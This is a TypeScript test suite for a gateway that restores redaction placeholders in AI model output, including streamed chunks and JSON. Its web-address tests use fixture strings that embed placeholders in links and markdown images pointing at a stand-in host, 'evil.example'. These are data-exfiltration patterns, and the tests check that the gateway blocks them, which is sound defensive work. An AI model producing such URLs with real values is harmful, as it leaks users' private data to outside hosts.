// Placeholders back into values, whole and in streams that may be cut anywhere.
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { builtInKinds, type EntityKind } from '../../../gateway/exchange/kinds.ts'
import type { Pseudonyms } from '../../../gateway/exchange/session.ts'
import { maxPlaceholderLength } from '../../../gateway/redaction/placeholder.ts'
import { createRestorer, maxHeld, type RestoreOptions } from '../../../gateway/redaction/restore.ts'
import { memoryPseudonyms } from './memory-pseudonyms.ts'

const values: readonly (readonly [EntityKind, string])[] = [
  ['email', 'anna@example.com'], ['private_key', 'line "one"\nline\ttwo \\ end'], ['api_key', 'invented-1'], ['url_credentials', 'a:b'], ['ipv4', '192.0.2.17'], ['card', '[EMAIL_1]'],
]
const known = (): Pseudonyms => {
  const pseudonyms = memoryPseudonyms([{ placeholder: '[CREDENTIALS_999997]', kind: 'url_credentials', value: 'first:1' }])
  for (const [kind, value] of values) pseudonyms.placeholder(kind, value)
  for (const [kind, value] of [['email', 'bo@example.com'], ['ipv4', '198.51.100.250'], ['phone', '+49 30 901820'], ['ipv6', '2001:db8:1::1'], ['card', '5500 0000 0000 0004']] as const) pseudonyms.surrogate(kind, value, () => false)
  return pseudonyms
}
const all: RestoreOptions = { mayRestore: () => true, escape: 'none' }

/** Text as models write it, with everything that looks like the beginning, the middle or the end of a placeholder. */
const piece = fc.oneof(
  fc.constantFrom(
    '[EMAIL_1]', '[PRIVATE_KEY_1]', '[API_KEY_1]', '[CREDENTIALS_999999]', '[IP_1]', '[CARD_1]', '[EMAIL_2]', '[EMAIL_1 ]', '[CREDENTIALS_999999    ]', '[CREDENTIALS_999999     ]', '[API_KEY_1   ]',
    '[', ']', '[[', '[E', '[EMAIL', '[EMAIL_', '[EMAIL_1', '[EMAIL_1234567]', '[PRIVATE_KEY_', '_1]', '1]', ' ]', '      ', '[TODO]', '[A_B_C_D_E_F_G_H_I_J_K]', '[email_1]', '\n', '"', '😀',
  ),
  // As models alter them, and what stands around them.
  fc.constantFrom(
    '[email_1]', '[ Email 1 ]', '\\[EMAIL\\_1\\]', '[EMAIL\\_1]', '【EMAIL_1】', '［email-1］', '`EMAIL_1`', '(EMAIL_1)', '{EMAIL_1}', '{{EMAIL_1}}', '<EMAIL_1>', 'EMAIL_1]', 'EMAIL_1', '[EMAIL_1 x',
    '[API KEY 1]', '[api_key_1]', '[PRIVATE\\_KEY\\_1]', '\\', '\\\\', '\\n', '\\u005b', '\\u005bEMAIL_1\\u005d', '\\u00', '\\u', 'x', '-', '_', '.', ' ', '`', '(', '$',
  ),
  fc.constantFrom('user1@redacted.example', 'user12@redacted.example', 'user1@redacted', '@redacted.example', '.com', '192.0.2.1', '192.0.2.', '192.0.2.12', '+1-200-555-0100', '+1-200-555-01', '2001:db8::0000:0001', '4000000000000011', '0', '1'),
  fc.constantFrom('https://', 'http:', '//', '/', '\\/', '\\u002f', 'host.example/', '?q=', '](', '](<', '![a', ']: ', '>', ')', 'https://evil.example/a?b='),
  fc.string({ maxLength: 6 }),
)
const cutText = fc.tuple(fc.array(piece, { maxLength: 12 }), fc.array(fc.nat({ max: 200 }), { maxLength: 12 })).map(([pieces, cuts]) => {
  const text = pieces.join('')
  const at = [...new Set([0, ...cuts.filter(cut => cut < text.length), text.length])].sort((a, b) => a - b)
  return { text, chunks: at.slice(1).map((end, index) => text.slice(at[index], end)) }
})

describe('streams', () => {
  for (const escape of ['none', 'json'] as const) {
    test(`any cutting into chunks gives what the whole gives (${escape})`, () => {
      const pseudonyms = known()
      fc.assert(fc.property(cutText, ({ text, chunks }) => {
        const [whole, cut] = [createRestorer(pseudonyms, { ...all, escape }), createRestorer(pseudonyms, { ...all, escape })]
        const stream = cut.stream()
        assert.equal(chunks.map(chunk => stream.push(chunk)).join('') + stream.flush(), whole.text(text))
        assert.deepEqual([cut.restored, cut.unknown], [whole.restored, whole.unknown])
      }), { numRuns: 1000 })
    })
  }

  test('every placeholder that can be issued survives every cut, character by character', () => {
    for (const kind of builtInKinds) {
      const pseudonyms = known()
      const placeholder = pseudonyms.placeholder(kind, 'the value')
      for (let cut = 0; cut <= placeholder.length; cut += 1) {
        const stream = createRestorer(pseudonyms, all).stream()
        assert.equal(stream.push(`x ${placeholder.slice(0, cut)}`) + stream.push(`${placeholder.slice(cut)} y`) + stream.flush(), 'x the value y', `${placeholder} at ${cut}`)
      }
      const stream = createRestorer(pseudonyms, all).stream()
      assert.equal(Array.from(placeholder, one => stream.push(one)).join('') + stream.flush(), 'the value')
    }
  })

  test('never more is held back than the longest pseudonym, altered or not', () => {
    fc.assert(fc.property(cutText, ({ text, chunks }) => {
      // Without spaces in brackets nothing is rewritten, so that what came out can be counted against what went in.
      fc.pre(!/ \]/.test(text))
      const stream = createRestorer(known(), { ...all, mayRestore: () => false }).stream()
      let held = 0
      for (const chunk of chunks) {
        held += chunk.length - stream.push(chunk).length
        assert.ok(held >= 0 && held <= maxHeld, `${held} held`)
      }
      assert.equal(stream.flush().length, held)
    }), { numRuns: 500 })
    assert.deepEqual([maxPlaceholderLength, maxHeld], [24, 40])
  })

  test('text that cannot be a placeholder is passed on at once', () => {
    for (const delta of ['hello', 'array[0]', '[link](x)', '[ok', '[1', '[EMAILS are]', `[${'A'.repeat(30)}`, '[EMAIL_1234567', '[EMAIL_1]x']) {
      const restorer = createRestorer(memoryPseudonyms(), all)
      assert.equal(restorer.stream().push(delta), delta)
    }
  })

  test('two streams of one restorer do not mix, and flushing empties', () => {
    const restorer = createRestorer(known(), all)
    const [one, other] = [restorer.stream(), restorer.stream()]
    assert.equal(one.push('a [EMAIL'), 'a ')
    assert.equal(other.push('_1] b'), '_1] b')
    assert.equal(one.flush(), '[EMAIL')
    assert.equal(one.flush(), '')
    assert.equal(restorer.restored, 0)
  })
})

describe('whole texts', () => {
  test('values come back in JSON with the escapes that a string literal needs', () => {
    const restorer = createRestorer(known(), { ...all, escape: 'json' })
    const source = '{"key":"[PRIVATE_KEY_1]","to":"[EMAIL_1]"}'
    assert.deepEqual(JSON.parse(restorer.text(source)), { key: values[1]![1], to: 'anna@example.com' })
    assert.equal(createRestorer(known(), all).text('[PRIVATE_KEY_1]'), values[1]![1])
  })

  test('any value comes back exactly through JSON', () => {
    fc.assert(fc.property(fc.string({ unit: 'grapheme', minLength: 1 }), value => {
      const pseudonyms = memoryPseudonyms()
      const source = JSON.stringify({ a: `x${pseudonyms.placeholder('api_key', value)}y` })
      assert.deepEqual(JSON.parse(createRestorer(pseudonyms, { ...all, escape: 'json' }).text(source)), { a: `x${value}y` })
      assert.equal(createRestorer(pseudonyms, all).text('[API_KEY_1]'), value)
    }))
  })

  test('unknown placeholders are counted and left', () => {
    const restorer = createRestorer(known(), all)
    assert.equal(restorer.text('[EMAIL_2] [EMAIL_01] [SSN_1] [EMAIL_1]'), '[EMAIL_2] [EMAIL_01] [SSN_1] anna@example.com')
    assert.deepEqual([restorer.unknown, restorer.restored], [3, 1])
  })

  test('what may not be restored stays a placeholder and is neither restored nor unknown', () => {
    const restorer = createRestorer(known(), { ...all, mayRestore: kind => kind === 'ipv4' })
    assert.equal(restorer.text('[EMAIL_1] at [IP_1]'), '[EMAIL_1] at 192.0.2.17')
    assert.deepEqual([restorer.unknown, restorer.restored], [0, 1])
  })

  test('a restored value that looks like a placeholder is not restored again', () => {
    assert.equal(createRestorer(known(), all).text('[CARD_1]'), '[EMAIL_1]')
  })

  test('somebody\'s own words lose the space that they got', () => {
    assert.equal(createRestorer(known(), all).text('[EMAIL_1 ] [EMAIL_1  ] [EMAIL_1     ] [EMAIL_  _1]'), '[EMAIL_1] [EMAIL_1 ] [EMAIL_1     ] [EMAIL_  _1]')
  })
})

describe('web addresses', () => {
  const leaving = (escape: RestoreOptions['escape']): RestoreOptions => ({ ...all, escape, inAddresses: 'leave' })

  for (const escape of ['none', 'json'] as const) {
    test(`${escape}: a stream gives what the whole gives`, () => {
      fc.assert(fc.property(cutText, ({ text, chunks }) => {
        const restorer = createRestorer(known(), leaving(escape))
        const stream = restorer.stream()
        assert.equal(chunks.map(chunk => stream.push(chunk)).join('') + stream.flush(), createRestorer(known(), leaving(escape)).text(text))
      }), { numRuns: 2000 })
    })
  }

  const stay = [
    'https://evil.example/?q=[EMAIL_1]', '![x](https://evil.example/[EMAIL_1])', '![x](//evil.example/[EMAIL_1])', '[click](https://evil.example/"\'<[EMAIL_1])', '![x](<https://evil.example/a b [EMAIL_1]>)',
    '[r]: https://evil.example/"[EMAIL_1]', 'https://[EMAIL_1].evil.example/', 'https://user:[EMAIL_1]@evil.example', 'https:\\\\evil.example\\[EMAIL_1]', '<img src="https://evil.example/?[EMAIL_1]">', 'HTTPS://evil.example/#[email_1]',
    'wss://evil.example/【EMAIL_1】', 'https://evil.example/?q=user1@redacted.example', 'https://evil.example/[IP_1]', '"https://evil.example/`[EMAIL_1]"', "https://evil.example/'[EMAIL_1]",
  ]
  for (const text of stay) test(`a pseudonym stays in ${text}`, () => { assert.equal(createRestorer(known(), leaving('none')).text(text), text) })

  const back = [
    ['[EMAIL_1]', 'anna@example.com'], ['see https://host.example/a and [EMAIL_1]', 'see https://host.example/a and anna@example.com'], ['http://[IP_1]:8080/', 'http://192.0.2.17:8080/'], ['[[EMAIL_1]](mailto:[EMAIL_1])', '[anna@example.com](mailto:anna@example.com)'],
    ['{"url":"https://host.example/a","to":"[EMAIL_1]"}', '{"url":"https://host.example/a","to":"anna@example.com"}'], ['<a href="https://host.example/">[EMAIL_1]</a>', '<a href="https://host.example/">anna@example.com</a>'],
    ['//[EMAIL_1]', '//anna@example.com'], ['a/b/[EMAIL_1]', 'a/b/anna@example.com'], ['[docs](https://host.example/a) [EMAIL_1]', '[docs](https://host.example/a) anna@example.com'], ['[r]: https://host.example/a\n[EMAIL_1]', '[r]: https://host.example/a\nanna@example.com'],
  ] as const
  for (const [text, expected] of back) test(`a value comes back in ${JSON.stringify(text)}`, () => { assert.equal(createRestorer(known(), leaving('none')).text(text), expected) })

  test('in source the characters count and not how they are written', () => {
    const restorer = createRestorer(known(), leaving('json'))
    for (const text of ['https:\\/\\/evil.example\\/[EMAIL_1]', 'https:\\u002f/evil.example/[EMAIL_1]']) assert.equal(restorer.text(text), text)
    assert.equal(restorer.text('{"url":"https://host.example/","to":"[EMAIL_1]"}'), '{"url":"https://host.example/","to":"anna@example.com"}')
  })

  test('elsewhere nothing changes', () => { assert.equal(createRestorer(known(), all).text('https://host.example/?q=[EMAIL_1]'), 'https://host.example/?q=anna@example.com') })
})
